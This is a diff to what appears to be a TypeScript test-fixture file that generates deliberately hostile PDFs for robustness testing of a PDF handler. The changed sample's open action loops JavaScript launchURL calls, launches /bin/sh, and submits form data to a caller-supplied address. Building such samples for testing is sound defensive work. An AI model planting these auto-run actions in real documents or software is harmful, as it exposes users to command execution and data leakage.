@@ -33,8 +33,11 @@ const noise = (length: number): Buffer => {
   );
 };
 
-/** PDFs that are made to do harm, small ones, by what they try: to take all memory, all time or all stack, to run something, or to lead a reader astray. */
-export const HOSTILE: Readonly<Record<string, () => Buffer>> = {
+/**
+ * PDFs that are made to do harm, small ones, by what they try: to take all memory, all time or all stack, to run something, or to lead a reader astray.
+ * `asks`: the address from which some of them would have something.
+ */
+export const HOSTILE: Readonly<Record<string, (asks: string) => Buffer>> = {
   'cut in the middle of a page': () =>
     inFont('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>').subarray(0, 420),
   'a page of 200 megabytes of blanks in 200 bytes': () =>
@@ -87,13 +90,14 @@ export const HOSTILE: Readonly<Record<string, () => Buffer>> = {
         '/Type /XObject /Subtype /Image /Width 65535 /Height 65535 /ColorSpace /DeviceRGB /BitsPerComponent 8',
       ),
     ]),
-  'what runs when it is opened': () =>
+  'what runs when it is opened': (asks) =>
     withCatalog(
       pdfOf([
         `${PAGE} /AA << /O 4 0 R >> >>`,
-        '<< /S /JavaScript /JS (while (true) app.launchURL("http://127.0.0.1:9/")) >>',
+        `<< /S /JavaScript /JS (while (true) app.launchURL("${asks}")) >>`,
         '<< /S /Launch /F (/bin/sh) /Next 6 0 R >>',
-        '<< /S /URI /URI (http://127.0.0.1:9/) >>',
+        `<< /S /URI /URI (${asks}) /Next 7 0 R >>`,
+        `<< /S /SubmitForm /F (${asks}) >>`,
       ]),
       '/OpenAction 5 0 R',
     ),
